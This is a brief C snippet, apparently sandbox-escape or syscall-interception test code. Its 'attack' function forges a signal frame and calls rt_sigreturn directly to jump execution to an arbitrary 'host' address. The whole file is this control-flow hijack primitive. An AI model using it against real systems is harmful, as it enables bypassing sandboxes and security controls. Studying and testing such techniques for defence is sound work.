#define _GNU_SOURCE
#include <signal.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>
long attack(long host)
{
    ucontext_t frame = {0};
    frame.uc_mcontext.gregs[REG_RIP] = host;
    frame.uc_mcontext.gregs[REG_CSGSFS] = 0x2b000000000033;
    return syscall(SYS_rt_sigreturn, &frame) + 1;
}
